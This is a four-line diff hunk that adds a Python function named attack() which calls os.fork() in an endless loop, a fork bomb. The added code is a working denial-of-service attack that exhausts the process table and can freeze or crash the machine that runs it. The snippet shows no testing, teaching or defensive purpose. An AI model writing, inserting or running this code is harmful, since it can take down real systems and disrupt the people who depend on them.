@@ -1,0 +1,4 @@
+def attack():
+    import os
+    while True:
+        os.fork()
